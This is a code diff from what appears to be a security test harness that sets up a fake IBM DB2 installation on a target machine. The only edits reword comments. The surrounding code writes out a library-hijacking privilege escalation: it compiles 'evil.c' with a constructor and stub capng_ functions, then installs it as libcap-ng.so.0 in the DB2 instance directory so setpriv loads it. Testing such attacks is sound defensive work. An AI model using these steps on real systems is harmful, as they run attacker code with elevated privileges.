@@ -39,10 +39,10 @@ const traces = (host: PathologicalHost): string => host.path('traces');
 const tracesIn = (host: PathologicalHost, machine: AttackedMachine): Promise<string> =>
   machine.shell(`ls ${traces(host)}`);
 
-/** An installation of DB2 that lists the instance, and the instance with the user's own program. */
+/** A DB2 installation that lists the instance, and the instance with the user's own program. */
 async function installDb2(machine: AttackedMachine, db2: string): Promise<void> {
   await machine.write(`${installation}/instance/db2ilist`, '#!/bin/sh\necho db2inst1\n');
-  // As IBM's installer leaves it.
+  // As installed by IBM.
   await machine.shell(`chown -R bin:bin ${installation}`);
   await machine.write('/usr/local/bin/db2ls', `#!/bin/sh\necho '#PATH:VRMF'\necho '${installation}:11.5'\n`);
   await machine.write('/home/db2inst1/sqllib/bin/db2', db2, { owner });
@@ -204,7 +204,7 @@ __attribute__((constructor)) static void run(void) { open("${host.path('canary')
       await machine.write('/home/db2inst1/evil.c', source, { owner });
       await machine.shell(`
       cd /home/db2inst1/sqllib; mkdir -p lib64 lib32 adm bin
-      # Every function that setpriv takes from the library is there.
+      # Contains every function that setpriv uses from the library.
       for name in $(grep -ao 'capng_[a-z_]*' /usr/bin/setpriv | sort -u); do echo "int $name() { return 0; }"; done >> ../evil.c
       gcc -shared -fPIC -o evil.so ../evil.c
       cp evil.so lib64/libcap-ng.so.0
